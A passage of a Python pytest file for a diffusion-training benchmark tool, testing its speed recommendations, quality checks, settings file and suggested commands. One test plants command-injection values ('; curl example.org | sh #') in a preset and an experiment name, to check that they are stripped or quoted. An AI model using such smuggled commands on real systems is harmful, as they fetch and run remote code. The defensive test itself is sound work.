"""The recommendation: each step's gain, what is recommended, what comes next, the file of settings, the command."""

import functools
import math
import tomllib
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import planted_search as planted
import pytest
import records as make
from campaign_lab import Lab
from conftest import Call
from matplotlib.text import Text

from ddpm_lab.config import LOADER_ALONE, OWN, ExchangeConfig, RunConfig
from ddpm_lab.explain import findings, quality, stats
from ddpm_lab.explain.selection import Study
from ddpm_lab.files import LEDGER
from ddpm_lab.ledger import Ledger
from ddpm_lab.measure import hardware
from ddpm_lab.plan import BATCH, LOST, PRESETS, RECOMMENDATION, SEARCH, WEAK, Experiment, Family, Value
from ddpm_lab.questions import experiments
from ddpm_lab.questions import recommendation as question
from ddpm_lab.questions.ask import answer
from ddpm_lab.questions.calibrate import WORKLOAD
from ddpm_lab.questions.recommendation import Recommendation, recommendation, write_settings
from ddpm_lab.questions.search import admissible
from ddpm_lab.record import RunRecord
from ddpm_lab.training.setting import Own, usual_settings
from ddpm_lab.training.training_run import plan_training

BF16, TWO = {"precision": "bf16"}, {"world_size": 2}
BOTH = {**BF16, **TWO}
LOADERS = (Value("packed", "packed", {}), Value("files", "files", {"loader": "files"}))
"""Two that learn the very same."""


# --- what a search found ----------------------------------------------------------------------------------------------


def of(records: list[Any], *tried: list[Any], **changes: Any) -> Recommendation:
    """What a search found, with trials."""
    found = recommendation(planted.study(records, trials=tuple(t for each in tried for t in each), **changes))
    assert found is not None
    return found


def trials(setting: dict[str, Any], worse: float, base: RunConfig = planted.BASE, **values: Any) -> list[Any]:
    return make.trials({"it": (replace(base, **setting), worse)}, baseline=base, images=800, **values)


def again(records: list[Any], factor: float, experiment: str = RECOMMENDATION, **where: Any) -> list[Any]:
    """The records with other seconds in the windows of those that are so, by default of the sets after the search."""
    return [
        make.windowed(r, factor)
        if r.experiment == experiment and all(getattr(r, name, None) == value for name, value in where.items())
        else r
        for r in records
    ]


def test_each_step_is_compared_with_the_one_before_in_the_same_sets() -> None:
    """A known answer, and an independent one: throughput over throughput, set by set."""
    records = planted.searched(noise=0.02)
    found = of(records, trials(BOTH, 0.0))
    assert [(step.label, step.gain.sets) for step in found.steps[1:]] == [("2 ranks", 6), ("bf16", 6)]
    assert [s.gain.ratio.value for s in found.steps[1:]] == pytest.approx([1.5, 1.2 * planted.TOGETHER], rel=0.03)
    sets: dict[str, dict[str, float]] = {}
    for r in records:
        if r.experiment == RECOMMENDATION and r.windows and r.role != "twin":
            sets.setdefault(r.set_id, {})[r.run_id] = float(np.median([w.seconds_per_image for w in r.windows]))
    one, both = (planted.SPACE.cells[step.cell].run_id for step in found.steps[1:])
    by_hand = np.exp(np.mean([math.log(s[one] / s[both]) for s in sets.values()]))
    assert found.steps[2].gain.ratio.value == pytest.approx(by_hand, rel=0.01)
    assert found.best.row.ratio.value == pytest.approx(math.prod(s.gain.ratio.value for s in found.steps[1:]), rel=0.02)
    _, first, _ = of(again(planted.searched(noise=0.0), 1.04, role="twin")).steps
    assert first.gain.ratio.value == pytest.approx(1.5 * math.sqrt(1.04), rel=0.01), "over baseline and repeat"
    # The winner's own sets give the ratio, and not those that chose it.
    last = found.best.row
    slower = of(again(records, 1.1, run_id=last.run_id)).steps[-1].row
    assert slower.ratio.value == pytest.approx(last.ratio.value / 1.1)
    assert of(again(records, 0.5, SEARCH, role="candidate")).steps[-1].row.ratio == last.ratio


def test_disturbed_sets_do_not_count_and_what_was_shown_and_called_stays() -> None:
    records = planted.searched(sets=12)
    sets = list(dict.fromkeys(r.set_id for r in records if r.experiment == RECOMMENDATION and r.set_id))
    busy = [make.windowed(r, others_cores=1.0) if r.set_id == sets[0] else r for r in again(records, 2, set_id=sets[0])]
    quiet = of([r for r in records if r.set_id != sets[0]])
    assert [s.gain.ratio for s in of(busy).steps[1:]] == [s.gain.ratio for s in quiet.steps[1:]]
    assert [s.gain.sets for s in quiet.steps[1:]] == [11, 11]

    told = make.record(planted.BASE, experiment=RECOMMENDATION)
    looks = (make.look(told, sets, "2026-01-06T10:00:00Z"), make.look(told, sets[:6], "2026-01-05T10:00:00Z"))
    assert [s.gain.sets for s in of(records, looks=looks).steps[1:]] == [6, 6]


def counts(records: list[Any], *tried: list[Any]) -> tuple[int, int]:
    """Steps that are recommended, and steps that are faster and not known to be worse."""
    found = of(records, *tried)
    return found.count, found.reach


def test_only_what_trials_call_not_worse_is_recommended() -> None:
    records = planted.searched()
    assert counts(records) == (0, 2), "nobody knows what they cost"
    assert counts(records, trials(BOTH, 0.0)) == (2, 2)
    assert counts(records, trials(BOTH, 0.02)) == (0, 1)
    assert counts(records, trials(BOTH, 0.02), trials(TWO, 0.0)) == (1, 1)
    assert counts(records, trials(TWO, 0.0)) == (1, 2)
    assert counts(records, trials(BOTH, 0.0005, gain=0.001, seed_noise=0.005)) == (0, 1), "worse, if by little"
    assert counts(records, trials(BOTH, 0.0, seeds=3)) == (0, 2), "not enough data"
    batch = {**BOTH, "global_batch_size": 16}
    other = planted.searched(winner=(1, 1, 0, 1), among=list(planted.SPACE.cells))
    assert [s.label for s in of(other).steps[1:]] == ["2 ranks", "bf16", "batch 16"], "the batch comes last"
    assert [counts(other, *tried) for tried in ([], [trials(batch, 0.0)], [trials(batch, 0.02)])] == [
        (0, 3),
        (3, 3),
        (0, 2),
    ]


def test_what_a_change_builds_on_must_be_faster_itself() -> None:
    """Its number format and its ranks: by the same work, and where nothing is known of that, by any on the device."""
    narrow, two = replace(planted.BASE, precision="bf16"), replace(planted.BASE, world_size=2)
    large = replace(planted.BASE, global_batch_size=16)
    compiled = make.sets(
        {"compiled": (replace(narrow, compile="whole"), 1.5)}, baseline=narrow, experiment="torch_compile"
    )
    hook = {"bf16 hook": (replace(two, exchange=ExchangeConfig(hook="bf16")), 1.1)}
    hooked = make.sets(hook, baseline=two, experiment="exchange")
    slow = make.sets({"bf16": (replace(two, precision="bf16"), 0.8)}, baseline=two, family="2 ranks")
    here = {ratio: make.sets({"bf16": (narrow, ratio)}, baseline=planted.BASE) for ratio in (1.3, 0.8)}
    ranks = {r: [*two_ranks(r, planted.BASE), *two_ranks(1 / r, large, family="tiny, batch 16")] for r in (1.3, 0.8)}
    for label, records, able in (
        ("compiled", [*here[1.3], *slow, *compiled], True),
        ("compiled", [*here[0.8], *slow, *compiled], False),
        ("compiled", [*slow, *compiled], False),
        ("bf16 hook", [*ranks[1.3], *hooked], True),
        ("bf16 hook", [*ranks[0.8], *hooked], False),
    ):
        rows = question.measured(study(records))
        assert (label in [c.label for c in question.faster(rows, [quality.NOT_MEASURED])]) is able
    assert " on 2 ranks; quality" in answer(study(hooked)).finding.headline
    told = answer(study(here[0.8], slow, compiled)).finding.headline
    assert "builds on what is not known to be faster" in told


@pytest.mark.slow
def test_nothing_false_is_recommended() -> None:
    """Of 20 machines on which no setting changes the speed, and none costs quality, at most one is called faster."""
    good = [trials(changes, 0.0) for changes in ({**TWO, "kernels": "fused"}, TWO, {"kernels": "fused"})]
    made = (planted.searched(gains={}, winner=(0, 1, 1, 0), noise=0.02, seed=seed) for seed in range(20))
    assert sum(of(records, *good).count > 0 for records in made) <= 1


def test_a_loader_that_learns_the_same_has_the_quality_of_the_step_before() -> None:
    """It is recommended although more is faster: what bf16 costs is not known."""
    space = replace(planted.SPACE, settings={"loader": LOADERS, **planted.SPACE.settings})
    gains = {**planted.GAINS, "files": 1.4}
    found = of(planted.searched(space, gains, winner=(1, 1, 0, 0, 0)))
    assert [s.label for s in found.steps[1:]] == ["files", "bf16"]
    assert (found.count, found.reach, found.best.row.equivalence.verdict) == (1, 2, quality.IDENTICAL)


def test_a_search_that_finds_nothing_or_whose_winner_fails_says_so() -> None:
    def lost(records: list[RunRecord], experiment: str) -> list[RunRecord]:
        crash: dict[str, Any] = {"status": "crashed", "reason": "no memory", "windows": (), "ranks": ()}
        of = (experiment, "candidate")
        return [replace(r, **crash) if (r.experiment, r.role) == of else r for r in records]

    space = replace(planted.SPACE, baseline=replace(planted.BASE, image_size=64))
    records = planted.searched(space, dict.fromkeys(planted.GAINS, 0.8), winner=(0, 0, 0, 0))
    first = next(r.set_id for r in records)
    short = [r for r in records if r.experiment != SEARCH or r.set_id == first]
    for found, status in (
        (records, findings.ANSWERED),
        (lost(records, SEARCH), stats.TOO_FEW),  # nothing was tried
        (short, stats.TOO_FEW),  # after a set, as in smoke
        (lost(planted.searched(gains={"bf16": 1.3}), RECOMMENDATION), findings.FAILED),
    ):
        told = answer(study(found)).finding
        assert (told.status, told.sets) == (status, 0)
        size = " --image-size 64" * (status != findings.FAILED)
        way_out = f"ddpm-lab recommend --network tiny{size} --batch-size 8"
        assert told.way_out == way_out * (status != findings.ANSWERED)
    assert told.headline.startswith("Keep the baseline: bf16")
    assert "no memory" in told.claim


def test_where_every_change_failed_it_does_not_say_that_nothing_was_tried() -> None:
    records = make.sets({}, failures={"bf16": (RunConfig(precision="bf16"), "crashed", "no memory")})
    told = answer(study(records)).finding
    assert told.headline == "No change of a step has a measured speed yet on this machine"
    assert told.notes == ("Failed: bf16 in 6 sets (no memory).",)
    some = [replace(r, status="crashed", reason="no memory", windows=()) if r.primary else r for r in amp(1.3)[:6]]
    told = answer(study([*amp(1.3)[6:], *some], harm=0.0)).finding
    assert (told.headline[:8], told.notes[0]) == ("Use bf16", "Failed: bf16 in 2 sets (no memory).")
    assert answer(study([])).finding.headline == "Nothing is measured yet on this machine"


def test_the_command_that_judges_a_search_holds_to_what_it_was_held_to() -> None:
    held = (("precision", ("bf16", "fp32")), ("batch", ("8",)))
    found = planted.searched(replace(planted.SPACE, only=held, preset="full"))
    words = " --network tiny --preset full --batch-size 8 --only precision=bf16,fp32 --only batch=8 --seeds 8"
    assert question.answer(study(found)).finding.way_out.endswith(words)
    hostile = planted.searched(replace(planted.SPACE, preset="quick; curl example.org | sh #"))
    assert "curl" not in question.answer(study(hostile)).finding.way_out
    named = make.sets({"bf16": (NARROW, 1.6)}, experiment="amp; curl example.org | sh #")
    assert " 'amp; curl example.org | sh #' " in answer(study(named)).finding.way_out


def test_an_answer_is_about_one_network_and_names_it(tmp_path: Path) -> None:
    """The one asked for, else that of a report, whatever else was searched or measured, then what was measured last."""
    searched = planted.searched(replace(planted.SPACE, baseline=replace(planted.BASE, network="seed")))
    assert " for seed: " in answer(study(searched)).finding.headline
    mixed = answer(study(searched, amp(0.8)))
    assert (mixed.finding.headline, mixed.views) == ("Keep the defaults: no change that was measured is faster", [])
    later = make.environment(date="2026-01-06T10:00:00+00:00")
    ddpm = [replace(r, environment=later) for r in amp(0.8, RunConfig(network="ddpm"))]
    files = replace(SEED, loader="files")
    workers = make.sets({"2 workers": (replace(files, loader_workers=2), 1.3)}, baseline=files, experiment="workers")
    assert {c.config.network for c in question.measured(study(ddpm, workers))} == {"ddpm"}

    ledger = Ledger(tmp_path / LEDGER)
    tiny = [replace(r, environment=later) for r in amp(1.8)]  # on other images
    large = amp(0.5, base=replace(LARGE, data_sha256="b" * 64))
    ledger.append(make.on(hardware.machine(), [*searched, *tiny, *memory(), *large]))
    experiments.recommendation(minutes=0, output_dir=tmp_path)
    assert not (tmp_path / question.FILE).exists(), "a report searches nothing for its last page"
    for network, headline, changes in (
        (None, "Use freed memory kept: ", ["freed memory kept", "bf16"]),
        ("tiny", "Use freed memory kept: ", ["freed memory kept", "bf16"]),
        ("seed", " for seed: ", None),
        ("ddpm", "Keep the defaults", ["bf16"]),
    ):
        found = experiments.recommendation(ledger=ledger.path, output_dir=tmp_path, network=network)
        assert headline in found.finding.headline
        assert changes is None or [row["Change"] for row in found.table()] == changes


def test_what_would_judge_a_training_of_ones_own() -> None:
    own = RunConfig(workload=OWN, options=(("make", "mine:make"),), loader="files")
    bf16 = make.sets({"bf16": (replace(own, precision="bf16"), 1.6)}, baseline=own)
    judged = [replace(r, witness={"ranks": [{"rank": 0, "offers": ["loss", "held_out_loss"]}]}) for r in bf16]
    typed = "ddpm-lab run amp --workload mine:make --batch-size 32 --seeds 8"
    assert answer(study(judged)).finding.way_out == typed
    assert answer(study(bf16)).finding.way_out == f"a held_out_loss and then {typed}"
    workers = make.sets({"2 workers": (replace(own, loader_workers=2), 1.3)}, baseline=own, experiment="workers")
    assert answer(study(workers)).finding.way_out == "", "twenty steps told already that it may learn something else"


def test_a_search_without_an_answer_names_no_file(call: Call, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As where another network's search has left one, which a try with smoke leaves too."""
    done = functools.wraps(experiments.recommend)(lambda **_: SimpleNamespace(experiment=asked))
    monkeypatch.setattr(experiments, "recommend", done)
    ledger, here = Ledger(tmp_path / LEDGER), hardware.machine()
    for network, busy, words in (("tiny", 0.0, ()), ("seed", 2.0, ()), ("ddpm", 0.0, ("--preset", "smoke"))):
        base = replace(planted.BASE, network=network)
        found = planted.searched(replace(planted.SPACE, baseline=base))
        ledger.append(make.on(here, [make.windowed(r, others_cores=busy) for r in found]))
        asked = SimpleNamespace(configurations=[base])
        code, out, _ = call("recommend", "--network", network, "--output-dir", tmp_path, *words)
        first = network == "tiny"
        assert (code, f"settings: {tmp_path}" in out, "settings: none" in out) == (0, first, not first)
        assert ("; settings for speed are left to train" in out) is first, "what the file says of itself"
    assert tomllib.loads((tmp_path / question.FILE).read_text())["network"] == "tiny"


def test_the_answer_to_a_search_is_of_no_other_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A try with smoke, whose sets hide no others, sets out from a batch of its own."""
    larger = replace(planted.BASE, global_batch_size=16)
    (short := {**planted.SPACE.settings}).pop(BATCH)
    tried = planted.searched(
        replace(planted.SPACE, baseline=larger, settings=short), plan=PRESETS["smoke"].plan, seed=1
    )
    Ledger(tmp_path / LEDGER).append(make.on(hardware.machine(), [*planted.searched(), *tried]))
    done = functools.wraps(experiments.recommend)(lambda **_: SimpleNamespace(experiment=asked))
    monkeypatch.setattr(experiments, "recommend", done)
    for base in (planted.BASE, larger):
        asked = SimpleNamespace(configurations=[base])
        found = recommendation(experiments.recommendation(preset="smoke", output_dir=tmp_path).study)
        assert found is not None
        assert found.space.baseline == base
    others = make.sets({"bf16": (replace(larger, precision="bf16"), 9.0)}, baseline=larger)
    Ledger(tmp_path / LEDGER).append(make.on(hardware.machine(), others))
    held = experiments.recommendation(preset="smoke", output_dir=tmp_path, only={"ranks": [2]})
    assert held.finding.ratio < 2, "and of none that was left out"


def test_an_answer_is_about_the_images_that_are_asked_for(
    tmp_path: Path, synthetic: RunConfig, capsys: pytest.CaptureFixture[str]
) -> None:
    ledger, here = Ledger(tmp_path / LEDGER), hardware.machine()
    mine = make.on(here, planted.searched(replace(planted.SPACE, baseline=synthetic)))
    later = replace(mine[0].environment, date="2026-01-06T10:00:00+00:00")
    ledger.append([*mine, *(replace(r, environment=later) for r in make.on(here, planted.searched(sets=5)))])
    asked: list[tuple[dict[str, Any], str]]
    asked = [({"data": synthetic.data, "image_size": 8}, synthetic.data_sha256), ({}, "")]
    for how, images in asked:
        shown = experiments.recommendation(minutes=0, output_dir=tmp_path, **how).study
        assert {r.config.data_sha256 for r in shown.records} == {images}
    for never in ({"image_size": 64}, {"data": Path(synthetic.data).parent}):
        assert not experiments.recommendation(minutes=0, output_dir=tmp_path, **never).study.records
    experiments.recommendation(ledger=ledger.path, output_dir=tmp_path, only={"precision": ["fp32"]}, network="tiny")
    assert capsys.readouterr().out.startswith("note: no effect on records that exist: only; ")


def test_the_command_of_an_open_page_is_about_what_it_shows() -> None:
    """A search, one's own training, but neither other trainers, nor ranks whose speed is not claimed."""
    undecided = planted.searched(gains={"bf16": 1.05, "2 ranks": 1.04, "fused kernels": 0.8}, noise=0.15)
    busy = [r for r in planted.searched() if r.role == "space"]
    how: dict[str, Any] = {"experiment": RECOMMENDATION, "baseline": planted.BASE}
    for family, lost in ((busy[0].family, range(6)), ("of an earlier search", range(0))):
        busy += make.sets({"bf16": (replace(planted.BASE, precision="bf16"), 1.5)}, family=family, crowded=lost, **how)
    own = RunConfig(workload=OWN, options=(("make", "mine:make"),))
    mine = make.sets({"bf16": (replace(own, precision="bf16"), 1.6)}, baseline=own, crowded=range(6))
    peers = make.sets({"a": (replace(SEED, workload="peer:a"), 0.5)}, experiment="peers", baseline=SEED)
    hidden: dict[str, Any] = {"mechanism_only": ["2 ranks", "fp32", "fp32 again"]}
    gpus = make.on(make.GPUS, make.sets({"2 ranks": (RunConfig(world_size=2), 1.0)}, experiment="multi_gpu", **hidden))
    for records, way_out in (
        (undecided, "recommend --network tiny --batch-size 8"),
        (busy, "recommend --network tiny --batch-size 8"),
        (mine, "report --workload mine:make"),
        (peers, "report"),
        (gpus, "report"),
        (amp(count=2, base=RunConfig(image_size=64)), "report -p image_size 64"),
    ):
        found = answer(study(records)).finding
        assert found.status in (stats.INCONCLUSIVE, stats.TOO_FEW, quality.NOT_MEASURED)
        assert found.way_out == f"ddpm-lab {way_out}"
    beside = answer(study(amp(1.6), busy)).finding
    assert "bf16 is 60 % faster" in beside.headline
    assert "The search has no answer yet: " in beside.claim, "whose answer is another question's"
    assert beside.way_out == "ddpm-lab recommend --network tiny --batch-size 8"
    assert answer(replace(study(), output_dir=Path("/mine"))).finding.way_out == "ddpm-lab report --output-dir /mine"


def test_a_search_goes_on_after_a_set_that_others_disturbed_and_where_it_was_stopped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A neighbour is there during its first set."""
    space, lab = planted.SPACE, Lab(tmp_path, monkeypatch)
    lab.seconds_per_image = {c.run_id: 1 / planted.speed(space, cell, planted.GAINS) for cell, c in space.cells.items()}
    lab.loads = [9.0]
    family = Family(name="tiny, batch 8", baseline=space.baseline, baseline_label="start", candidates=())
    campaign = lab.campaign(Experiment(name=SEARCH, families=(family,), space=space))
    may = admissible(space, lambda _: "")
    lab.stop_after = 3
    with pytest.raises(KeyboardInterrupt):
        experiments.find(campaign, may)
    lab.stop_after = None
    belief = experiments.find(campaign, may)
    assert space.changed(belief.winner(may), space.start) == "bf16, 2 ranks"
    measured = [labels for _, labels in lab.sets]
    assert measured[0] == measured[1], "once more without the neighbour"
    assert all(labels not in measured[1:3] for labels in measured[3:]), "what was measured is in the ledger"


@pytest.mark.parametrize("known", [True, False])
def test_the_file_is_what_train_takes(
    tmp_path: Path, synthetic: RunConfig, known: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Found on some cores, which it says, and which leave the threads of a training open."""
    monkeypatch.setattr(quality, "shows_harm", lambda _: 0.38)  # of images of any size
    ledger, base = Ledger(tmp_path / "l.jsonl"), replace(synthetic, threads=1)
    ledger.append(planted.searched(replace(planted.SPACE, baseline=base)))
    records, damaged = ledger.read()  # which keeps the space
    assert not damaged
    told = tuple(trials(BOTH, 0.0, base)) if known else ()
    shown = planted.study(records, output_dir=tmp_path, trials=told)
    assert not known or "on 2 cores" in question.answer(shown).finding.headline
    path = write_settings(shown)
    assert path == tmp_path / "recommended.toml"
    settings = tomllib.loads(path.read_text())
    assert "threads" not in settings
    assert settings["train"] == {"steps": 800_000}
    usual = usual_settings("cpu")
    assert settings["world_size"] == 1 + known
    assert settings["precision"] == "bf16" if known else not settings.keys() & usual.keys(), "left to train"
    config, schedule, _ = plan_training({"oversubscribe": True}, {}, file=path, cache=tmp_path / "cache")
    wanted = of(records, list(told)).best.row.config
    open_ = () if known else usual
    assert config.differences(wanted).keys() <= {"purpose", "workload", "oversubscribe", "threads", *open_}
    assert (config.data, schedule.steps) == (synthetic.data, 800_000)
    assert write_settings(make.study(make.sets({}), RECOMMENDATION)) is None


# --- what all questions came to ---------------------------------------------------------------------------------------

NARROW, KEPT = RunConfig(precision="bf16"), RunConfig(freed_memory="kept")
"""Keeping freed memory is the same arithmetic: its quality needs no trials."""


def study(*records: Sequence[RunRecord], harm: float | None = None, base: RunConfig | None = None) -> Study:
    """All questions of a machine; with ``harm`` bf16 was tried too, and its loss ends so much higher."""
    bf16 = replace(base or RunConfig(), precision="bf16")
    tried = () if harm is None else make.trials({"bf16": (bf16, harm)}, baseline=base)
    return replace(make.study([r for part in records for r in part], RECOMMENDATION), trials=tuple(tried))


def amp(ratio: float = 1.3, base: RunConfig | None = None, **values: Any) -> list[RunRecord]:
    return make.sets({"bf16": (replace(base or RunConfig(), precision="bf16"), ratio)}, baseline=base, **values)


def memory(ratio: float = 1.1) -> list[RunRecord]:
    return make.sets({"freed memory kept": (KEPT, ratio)}, experiment="bottleneck")


OPEN = amp(1.0, set_noise=0.04)
LOADER = make.sets(
    {"2 workers": (RunConfig(loader="files", loader_workers=2), 3.0)},
    baseline=RunConfig(loader="files"),
    experiment="workers",
)
IN_BF16 = make.sets(
    {"compiled": (replace(NARROW, compile="whole"), 1.47)}, baseline=NARROW, experiment="torch_compile", family="bf16"
)
KEPT_IN_BF16 = make.sets(
    {"kept": (replace(NARROW, freed_memory="kept"), 1.2)}, baseline=NARROW, experiment="bottleneck", family="bf16"
)
"""The same arithmetic as its baseline."""
OF_A_STEP = make.sets({"fp32": (RunConfig(), 1.47)}, baseline=NARROW, experiment="bottleneck", baseline_label="bf16")
SEED = RunConfig(network="seed")
LARGE = RunConfig(network="ddpm")
"""A network of which no loss is known at which harm shows."""


@pytest.mark.parametrize(
    ("shown", "label", "status", "way_out"),
    [
        (study(amp(), memory(), LOADER, harm=0.0), "bf16", findings.ANSWERED, ""),
        (study(amp(), memory(), harm=0.05), "freed memory kept", findings.ANSWERED, ""),
        (study(amp(0.8), memory(), harm=0.0), "freed memory kept", findings.ANSWERED, ""),
        (study(amp()), "bf16", question.UNTRIED, "ddpm-lab run amp --batch-size 32 --seeds 8"),
        (study(amp(base=LARGE), harm=0.0, base=LARGE), "bf16", question.UNTRIED, ""),
        (study(amp(), harm=0.05), None, findings.ANSWERED, ""),
        (study(amp(0.7), IN_BF16, harm=0.0), None, findings.ANSWERED, ""),  # in a format that is slower itself
        (study(amp(), KEPT_IN_BF16), "bf16", question.UNTRIED, "ddpm-lab run amp"),  # that is not judged
        (study(IN_BF16), "Compiled bf16 training is 47 % faster than fp32 training;", question.UNTRIED, "ddpm-lab run"),
        (study(OF_A_STEP), "fp32", question.UNTRIED, ""),  # a bottleneck gives no verdict on quality
        (study(amp(0.8, primary="")), None, findings.ANSWERED, ""),
        (study(OPEN), None, stats.INCONCLUSIVE, "ddpm-lab run amp --batch-size 32 --resolution 3%"),
        (study(OPEN, memory(0.8)), None, findings.ANSWERED, "ddpm-lab run amp"),
        (study(amp(1.6, count=3), harm=0.0), None, stats.TOO_FEW, "ddpm-lab report"),
        (study(), None, quality.NOT_MEASURED, "ddpm-lab report"),
        (study(amp(experiment="compare", crowded=[0])), None, quality.NOT_MEASURED, "ddpm-lab report"),  # none of these
        (study(LOADER), None, quality.NOT_MEASURED, "ddpm-lab report"),  # the lab's loaders that are faster have none
        (study(amp(experiment="quality"), harm=0.0), "bf16", findings.ANSWERED, ""),
    ],
)
def test_the_answer_is_the_fastest_that_was_measured_and_is_not_worse(
    shown: Study, label: str | None, status: str, way_out: str
) -> None:
    found = answer(shown).finding
    assert (bool(found.sets), found.status) == (label is not None, status)
    assert (label or "") in found.headline
    ratios = {"bf16": 1.3, "freed memory kept": 1.1}
    assert not label or found.ratio == pytest.approx(ratios.get(label, 1.47), rel=0.02)
    assert found.way_out.startswith(way_out)
    assert bool(found.way_out) == bool(way_out)


@pytest.mark.parametrize("by_search", [True, False])
def test_headline_figure_and_table_are_of_one_source_and_the_other_is_a_further_view(by_search: bool) -> None:
    """A search that is not judged answers where nothing else may be used, and does not where something may."""
    shown = study(planted.searched(), amp(1.6, count=3) if by_search else memory())
    found = answer(shown)
    drawn = [text.get_text() for text in found.figure().findobj(Text) if isinstance(text, Text)]
    assert (found.finding.status, found.finding.headline in " ".join(drawn).replace("\n", " ")) == (
        question.UNTRIED if by_search else findings.ANSWERED,
        True,
    )
    assert ("Configuration" in found.table()[0]) == by_search
    more = "bf16, 2 ranks: 63 % faster; quality not measured yet"  # which the file is about
    assert (more in found.finding.claim, "ddpm-lab recommend" in found.finding.way_out) == (True, True)
    others = {view.name for view in found.views if view.figure and view.name != "batch_size"}
    assert others == {"changes" if by_search else "search"}


def test_what_is_no_change_of_a_training_is_left_out_of_the_table() -> None:
    """Other trainers and work, the loader alone, ranks that exchange nothing, more images, parts of lost scaling."""
    two, alone = RunConfig(world_size=2), RunConfig(loader="files", workload=LOADER_ALONE)
    silent = replace(two, exchange=ExchangeConfig(enabled=False))
    weak: dict[str, Any] = {"experiment": "multi_gpu", "family": f"tiny, batch 32 per rank{WEAK}"}
    others = [
        make.sets({"another trainer": (RunConfig(read_loss=True), 9.0)}, experiment="peers"),
        make.sets({"batch 64": (RunConfig(global_batch_size=64), 9.0)}, experiment="batch_size"),
        make.sets({"2 workers": (replace(alone, loader_workers=2), 9.0)}, baseline=alone, experiment="workers"),
        make.sets({"no exchange": (silent, 9.0)}, baseline=two, experiment="exchange"),
        make.sets({"2 ranks": (replace(two, global_batch_size=64), 1.9)}, **weak),
        make.sets({"ready batches": (replace(two, loader="still"), 9.0)}, baseline=two, family=f"tiny{LOST}"),
    ]
    shown = answer(study(amp(), memory(0.8), *others, harm=0.0)).table()
    usable = [(row["Change"], row["Verdict"], row["May be used"]) for row in shown]
    assert usable == [("bf16", "faster", "yes"), ("freed memory kept", "slower", "no")]


# --- what else one ledger may hold ------------------------------------------------------------------------------------


PLAIN = RunConfig(global_batch_size=8, data_sha256="a" * 64)


def bf16(ratio: float, base: RunConfig = PLAIN, **values: Any) -> list[RunRecord]:
    return make.sets({"bf16": (replace(base, precision="bf16"), ratio)}, baseline=base, **values)


def two_ranks(ratio: float, base: RunConfig, **values: Any) -> list[RunRecord]:
    values = {"experiment": "multi_gpu", "baseline_label": "1 rank", **values}
    return make.sets({"2 ranks": (replace(base, world_size=2), ratio)}, baseline=base, **values)


def batches() -> list[list[RunRecord]]:
    """Two ranks at two batches, which learn the same: slower in the small one, faster in the large one."""
    days = []
    for batch, ratio in ((16, 0.8), (512, 1.4)):
        base = replace(PLAIN, global_batch_size=batch)
        learned = make.trials({"2 ranks": (replace(base, world_size=2), 0.0)}, baseline=base, images=5120)
        same = [replace(r, quality={**(r.quality or {}), "weights_sha256": str(r.config.seed)}) for r in learned]
        days += [two_ranks(ratio, base, family=f"tiny, batch {batch}", seed=batch), same]
    return days


USUAL = [bf16(0.8), two_ranks(0.7, PLAIN, seed=1)]
WIDE = two_ranks(1.5, replace(PLAIN, image_size=64, data_sha256="b" * 64), family="tiny, batch 8, 64x64 pixels", seed=2)
MINE = replace(PLAIN, data_sha256="b" * 64)
LEARNED = [
    replace(r, data_name="50,000 images from me/faces")
    for r in make.trials({"bf16": (replace(MINE, precision="bf16"), 0.08)}, baseline=MINE, images=60_000)
]
"""Trials on other images, in which bf16 is worse; published ones call it not worse for this network and batch."""
EARLIER = [
    replace(r, config=replace(r.config, data_sha256=PLAIN.data_sha256), code_version="code-0", quality=told)
    for r in LEARNED
    if (told := {**(r.quality or {}), "trainer": "code-0"})
]
SINCE = make.trials({"2 ranks": (replace(PLAIN, world_size=2), 0.0)}, baseline=PLAIN, data_name=LEARNED[0].data_name)
"""The same on the very images, before the code changed; and other trials since."""
FASTER_SEED = bf16(1.4, replace(PLAIN, network="seed"), family="seed, batch 8")
SEARCHED = planted.searched(gains={"bf16": 1.3})
STOPPED = [r for r in SEARCHED if r.experiment == SEARCH or r.role == "space"]
HELD = planted.searched(
    replace(
        planted.SPACE,
        settings={"freed_memory": (Value("default", "", {}), Value("kept", "kept", {"freed_memory": "kept"}))},
    ),
    {"kept": 1.1},
    among=[(0,), (1,)],
)
"""A search that was held to one number format."""
NEWER = [replace(r, code_version="newer") for r in STOPPED if r.role == "space"]
MAKE = Own(name="mine:make", options=(("parameters", 1000),), offers=("training", "dataset", "loss"))
OWN_BASE = RunConfig(**MAKE.settings(), global_batch_size=32, data_sha256=MAKE.sha256)
WORK = RunConfig(workload=WORKLOAD, global_batch_size=1, options=(("pieces", 100),))
INSTRUMENT = make.sets(
    {"5 % more": (replace(WORK, options=(("pieces", 105),)), 0.95)},
    baseline=WORK,
    experiment="calibrate",
    family="calibration",
    data_name="",
)


@pytest.mark.parametrize(
    ("days", "headline"),
    [
        ([bf16(0.8), two_ranks(1.13, PLAIN, seed=1, count=3)], "Keep the defaults: nothing is known to be faster yet"),
        ([bf16(0.8), bf16(1.08, experiment="bottleneck", primary="", set_noise=0.1)], "known to be faster yet"),
        ([bf16(1.1, replace(PLAIN, threads=1))], "faster than fp32 on 1 core"),
        ([bf16(1.1, replace(PLAIN, threads=1)), bf16(0.85, seed=1)], "no change that was measured is faster"),
        ([bf16(1.3)], "Use bf16"),
        ([two_ranks(0.7, PLAIN), bf16(1.3, experiment="quality", seed=1)], "Use bf16"),
        ([bf16(1.3), bf16(1.5, experiment="quality", seed=1)], "Use bf16: 30 % faster"),
        ([bf16(1.3), LEARNED], "costs quality"),
        ([bf16(1.3), EARLIER, SINCE], "costs quality"),
        ([bf16(1.3), [replace(r, data_name="500 synthetic images") for r in LEARNED]], "Use bf16"),
        ([WIDE, *USUAL], "no change that was measured is faster"),
        ([*USUAL, WIDE], " at 64x64; quality"),  # the latest, and it says so
        (batches(), "Use 2 ranks at batch 512: 40 % faster"),
        ([FASTER_SEED], "Use bf16 for seed: 40 % faster"),
        ([FASTER_SEED, STOPPED], "Use bf16 for seed: 40 % faster"),
        ([SEARCHED], "Use bf16: 30 % faster"),
        ([SEARCHED, NEWER], "Use bf16: 30 % faster"),
        ([bf16(1.3, planted.BASE, seed=1), HELD], "Use bf16: 30 % faster than fp32"),
        ([bf16(1.9, OWN_BASE, family="mine:make, batch 32"), INSTRUMENT], "bf16 is 90 % faster"),
    ],
)
